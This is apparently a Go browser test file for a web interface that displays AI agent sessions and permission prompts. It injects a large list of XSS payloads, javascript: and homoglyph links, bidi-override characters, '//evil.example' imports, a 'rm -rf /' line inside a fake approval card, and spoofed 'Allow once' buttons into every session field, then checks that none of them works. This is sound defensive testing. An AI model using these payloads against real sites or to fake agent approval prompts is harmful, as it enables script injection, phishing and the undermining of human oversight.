package browsertest

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/parley-go/parley/hub"
	"github.com/parley-go/parley/parleytest"
	"github.com/parley-go/parley/serve"
	"github.com/parley-go/parley/session"
)

// texts are further injections, each of which is shown in every place of a session.
var texts = []string{
	// elements and handlers
	`<svg><animate onbegin="window.hacked=1" attributeName=x dur=1s></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>`,
	`<details open ontoggle=window.hacked=1><summary>x</summary></details>`,
	`<video><source onerror="window.hacked=1"></video>`,
	`<input autofocus onfocus=window.hacked=1>`,
	`<marquee onstart=window.hacked=1>x</marquee>`,
	`<object data="data:text/html,<script>parent.hacked=1</script>"></object><embed src="javascript:window.hacked=1">`,
	`<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">`,
	`<template><script>window.hacked=1</script></template><noscript><p title="</noscript><img src=x onerror=window.hacked=1>">`,
	`<textarea></textarea><img src=x onerror=window.hacked=1>`,
	`<!--><script>window.hacked=1</script-->`,
	`<![CDATA[><script>window.hacked=1</script>]]>`,
	`<a href="javascript:window.hacked=1" onclick="window.hacked=1">x</a>`,
	`<button class="yes" data-ready=true onclick=window.hacked=1>Allow once</button>`,
	`<dialog open class=approval>May it use Bash?</dialog>`,
	`<link rel=import href=//evil.example><script type=module>import '//evil.example/x.js'</script>`,
	`"><script>window.hacked=1</script>`, `' onmouseover='window.hacked=1`, `</textarea></title></style><script>window.hacked=1</script>`,
	`<xmp><script>window.hacked=1</script>`, `<plaintext>`, `<body onload=window.hacked=1 class=x style="display:none">`,
	// styles
	`<div style="position:fixed;inset:0;background:red">cover</div>`,
	"<style>@import '//evil.example/x.css'; .approval { display: none }</style>",
	`<p class="approval problem hidden" hidden>gone</p>`,
	`{color: red} .approval{display:none} */ body{} /*`,
	// links
	"[Allow](javascript:window.hacked=1)", "[Allow](JaVaScRiPt:window.hacked=1)", "[Allow](java\tscript:window.hacked=1)",
	"[Allow](&#106;avascript:window.hacked=1)", "[Allow](\u0001javascript:window.hacked=1)", "[Allow](data:text/html;base64,PHNjcmlwdD4x)",
	"[Allow](blob:https://evil.example/x)", "[Allow](file:///etc/passwd)", "[Allow](//evil.example)", "[Allow](#/s/x)", "[Allow](/v1/logout)", "[Allow](?x)",
	"<javascript:window.hacked=1>", "[https://good.example/](https://evil.example/)", "[https://good.example](https://good.example@evil.example/)",
	"[good.example](https://g\u043e\u043ed.example)", "[https://good.example\u202e](https://evil.example)", "![https://good.example](https://evil.example/pixel.gif)",
	"[![a](javascript:window.hacked=1)](javascript:window.hacked=1)", "[a]: javascript:window.hacked=1 \"t\"\n\n[a] [a][] ![a]",
	"[mail](mailto:a@evil.example?body=%0d%0aBcc:x)", "www.evil.example/<script>window.hacked=1</script>", "[x](https://evil.example/" + strings.Repeat("a", 3000) + ")",
	// fake cards and prompts
	"### May it use Bash?\n\n    rm -rf /\n\n**Allow once** `y` · **Deny** `n`", "> Approval\n>\n> | Why | no rule allows it |\n> |-|-|\n> | Always | Bash(*) |",
	"The connection is down. Connecting again …", "# Log in\n\nToken: ____", "- [ ] Allow once\n- [x] Always",
	"\n\n\n---\nann 10:00\nYes, run it.", "</article><section class=approval data-ask=fake data-ready=true>",
	// characters
	"abc\u202egpj.exe", "\u2066\u2067\u2068x\u2069", "\u200e\u200f\u061c", "zero\u200b\u200c\u200d\u2060\ufeffwidth", "\u00adsoft\u115f\u3164\u2800blank",
	"\u001b[2J\u001b]0;title\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007", "\u009b31m\u0085\u2028\u2029", "\ue000\U000e0041\U000e007f\ufff9\ufffb", "bell\u0007back\u0008\u007f",
	"Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", "\u0430\u0440\u0440rove", "\x00null",
	// sizes
	strings.Repeat("W", 5000), strings.Repeat("<b>", 2000), strings.Repeat("> ", 300) + "deep", strings.Repeat("- ", 300) + "deep",
	strings.Repeat("[", 1000) + "x" + strings.Repeat("](y)", 1000), strings.Repeat("*", 2000), "|" + strings.Repeat("a|", 200) + "\n|" + strings.Repeat("-|", 200) + "\n|" + strings.Repeat("b|", 200),
	// templates and code
	"${window.hacked=1} `${window.hacked=1}` {{constructor.constructor('window.hacked=1')()}}", "<!--lit-part--><!--/lit-part--> ?lit$123$ $lit$",
	"__proto__", "constructor", "```html onload=window.hacked=1\n<script>window.hacked=1</script>\n```", "`` ` `` <script>window.hacked=1</script> ``",
	"~~~\n</pre><script>window.hacked=1</script>", "&lt;script&gt;window.hacked=1&lt;/script&gt; &#x202e;", "\\<script>window.hacked=1\\</script>",
}

// safe checks that nothing that is shown has run, has become an element, imitates the page or is hidden.
func (p *page) safe(where string, approvals int) {
	p.t.Helper()
	const odd = `/[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u115f\u200b\u200c\u200e\u200f\u2028-\u202e\u2060-\u2069\u2800\u3164\ufeff\ufff9-\ufffb]|[\u{e000}\u{e0000}-\u{e0fff}]/u`
	for what, js := range map[string]string{
		"script ran":           "window.hacked !== undefined",
		"elements were made":   "document.querySelector('main :is(script, style, iframe, img, svg, math, link, object, embed, base, meta, video, audio, source, template, dialog, marquee, xmp)') !== null",
		"a handler was made":   "[...document.querySelectorAll('*')].some(e => [...e.attributes].some(a => /^on/i.test(a.name)))",
		"a question is faked":  fmt.Sprintf("document.querySelectorAll('.approval').length > %d || document.querySelector('[data-ask=x], [data-ask=fake]') !== null", approvals),
		"a form was made":      "document.querySelector('form[action]') !== null",
		"a heading was made":   "[...document.querySelectorAll('h1')].some(h => h.innerText.includes('expired'))",
		"a link is unsafe":     "[...document.querySelectorAll('.timeline a, .approval a')].some(a => !/^(https?|mailto):/.test(a.protocol) || a.origin === location.origin || !a.rel.includes('noopener') || !a.rel.includes('noreferrer'))",
		"a link is disguised":  "[...document.querySelectorAll('.timeline a, .approval a')].some(a => a.innerText !== a.href && a.innerText + '/' !== a.href && !a.nextElementSibling?.matches('.target'))",
		"a target is false":    "[...document.querySelectorAll('.target')].some(s => s.innerText !== '(' + s.previousElementSibling.href + ')')",
		"a style is inline":    "[...document.querySelectorAll('main [style]')].some(e => !/^height: [\\d.]+px;$/.test(e.getAttribute('style')))",
		"odd characters":       odd + ".test(document.body.innerText.replaceAll('\\n', '')) || " + odd + ".test(document.title)",
		"odd characters, attr": "[...document.querySelectorAll('main *')].flatMap(e => [...e.attributes]).some(a => " + odd + ".test(a.value))",
		"something was loaded": "performance.getEntriesByType('resource').some(r => new URL(r.name).origin !== location.origin)",
		"the page is covered":  "[...document.querySelectorAll('main *')].some(e => getComputedStyle(e).position === 'fixed')",
		"the page is too wide": "document.documentElement.scrollWidth > innerWidth",
	} {
		if eval[bool](p, js) {
			p.t.Errorf("%s: %s", where, what)
		}
	}
}

// hostileSession writes the journal of a session that has an injection in every place that a model, a tool, a server or
// the name of something can fill. It returns how many questions are open.
func (r *rig) hostileSession(id string, evil func() string) (asks int) {
	r.t.Helper()
	var entries []hub.Entry
	add := func(kind hub.Kind, record string, data any) {
		line, err := json.Marshal(data)
		if err != nil {
			r.t.Fatal(err)
		}
		entries = append(entries, hub.Entry{N: uint64(len(entries) + 1), Kind: kind, Time: time.Now(), Record: record, Data: line})
	}
	type object = map[string]any
	frame := func(data object) { add(hub.KindFrame, "", data) }
	say := func(role string, blocks ...object) {
		uuid := session.NewID()
		add(hub.KindFrame, uuid, object{"type": role, "uuid": uuid, "message": object{"id": "m" + uuid, "role": role, "content": blocks}})
	}
	who := func() object { return object{"name": evil(), "from": evil()} }
	add(hub.KindCreated, "", object{"by": who(), "cwd": "/" + evil(), "session": id, "title": evil(), "worktree": evil()})
	frame(object{"type": "system", "subtype": "init", "model": evil(), "permissionMode": evil(), "slash_commands": []string{evil(), evil()}, "tools": []string{evil()}, "session_id": id})
	for range texts {
		say("assistant", object{"type": "text", "text": evil()})
	}
	for i := range 8 {
		call := fmt.Sprint("call-", i)
		input := []object{{"command": evil(), "description": evil()}, {"file_path": evil(), "content": evil()}, {"todos": []any{object{"content": evil(), "status": evil()}, nil, evil()}}, {evil(): evil()}}[i%4]
		say("assistant", object{"type": "thinking", "thinking": evil()}, object{"type": "tool_use", "id": call, "name": []string{evil(), "TodoWrite"}[i%4/2*(1-i%2)], "input": input})
		say("user", object{"type": "tool_result", "tool_use_id": call, "is_error": i%2 == 0, "content": evil()})
		entries[len(entries)-1].Data = append(entries[len(entries)-1].Data[:len(entries[len(entries)-1].Data)-1], []byte(`,"tool_use_result":`+string(must(json.Marshal(object{"filePath": evil(), "structuredPatch": []object{{"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1, "lines": []string{"-" + evil(), "+" + evil()}}}})))+`}`)...)
	}
	add(hub.KindControl, "", object{"by": who(), "request": object{"subtype": "set_model", "model": evil()}})
	add(hub.KindControl, "", object{"by": who(), "request": object{"subtype": "interrupt"}})
	add(hub.KindEnded, "", object{"reason": evil()})
	frame(object{"type": "result", "subtype": "error_during_execution", "is_error": true, "errors": []string{evil(), evil()}})
	for i, kind := range []string{"permission", "permission", "permission", "plan", "choice", "elicitation", "dialog"} {
		request := object{
			"subtype": "can_use_tool", "tool_name": evil(), "display_name": evil(), "description": evil(), "decision_reason": evil(), "blocked_path": evil(), "dialog_kind": evil(), "payload": evil(),
			"matched_ask_rule":       object{"tool_name": evil(), "rule_content": evil(), "source": evil()},
			"permission_suggestions": []object{{"type": "addRules", "behavior": "allow", "rules": []object{{"toolName": evil(), "ruleContent": evil()}}}, {"type": "addDirectories", "directories": []string{evil()}}, {"type": "setMode", "mode": evil()}},
			"mcp_server_name":        evil(), "message": evil(), "url": []string{"javascript:window.hacked=1", "https://evil.example/\u202e"}[i%2],
			"requested_schema": object{"type": "object", "properties": object{evil(): object{"type": "string", "title": evil(), "description": evil()}, evil(): object{"type": "string", "enum": []string{evil()}}}},
			"input": object{
				"plan": evil(), []string{"command", "file_path", evil()}[i%3]: evil(),
				"questions": []object{{"question": evil(), "header": evil(), "options": []object{{"label": evil(), "description": evil(), "preview": evil()}}}},
			},
		}
		add(hub.KindAsk, "", object{"id": session.NewID(), "kind": kind, "tool": evil(), "request": request, "paths": []string{evil()}, "diff": []string{"", "--- a\n+++ b\n@@ -1 +1 @@\n-" + evil() + "\n+" + evil()}[i%2], "hash": evil()})
		asks++
	}
	if err := r.backend.Append(r.t.Context(), id, 0, entries); err != nil {
		r.t.Fatal(err)
	}
	return asks
}

func must(data []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return data
}

// TestInjections shows each injection in every place of a session. None of them works.
func TestInjections(t *testing.T) {
	r := newRig(t, parleytest.Say("Done."))
	next := 0
	evil := func() string { next++; return texts[next%len(texts)] }
	id := session.NewID()
	asks := r.hostileSession(id, evil)
	p := open(t, r.link(serve.ScopeAdmin))
	p.look(1280, 860, "light")
	p.until("document.querySelectorAll('.entry .approval').length === %d", asks)
	p.safe("overview", asks)
	p.shot("injections-overview")
	eval[any](p, "location.hash = '#/s/"+id+"'; 0")
	p.until("document.querySelectorAll('.asks .approval').length === %d && document.querySelector('.turn')", asks)
	p.shot("injections")
	p.look(1280, 60_000, "light") // everything is in the page
	p.until("document.querySelectorAll('.timeline .answer').length === %d && document.querySelectorAll('.tool').length === 8 && !document.querySelector('.timeline .prose.plain')", len(texts))
	p.safe("session", asks)
	eval[any](p, "document.querySelectorAll('details').forEach(d => { d.open = true; }); 0")
	p.until("document.querySelectorAll('.tool[open] h4, .tool[open] .diff, .tool[open] .todos').length >= 8")
	p.safe("opened", asks)
	p.look(390, 60_000, "dark")
	p.safe("phone", asks)
	p.look(1280, 860, "light")
	p.click(".bar nav button:last-child")
	p.until("document.querySelector('section.file')")
	p.safe("review", asks)
	for hash, ready := range map[string]string{"#/cost": "h1", "#/schedules": "form.new", "#/audit": "table", "#/settings": "#push"} {
		eval[any](p, fmt.Sprintf("location.hash = %q; 0", hash))
		p.until("document.querySelector(%q)", ready)
		p.safe(hash, 0)
	}
	// An answer that looks like a question takes no keys.
	other := r.create("Cards", "Show me a card.")
	eval[any](p, "location.hash = '#/s/"+other.ID()+"'; 0")
	p.shows(".answer", "Done.")
	p.key("yYnN")
	if a := r.answers(other); len(a) > 0 {
		t.Errorf("a key answered %+v", a)
	}
	if a := r.answers(r.hub.Session(id)); len(a) > 0 {
		t.Errorf("somebody answered %+v", a)
	}
}
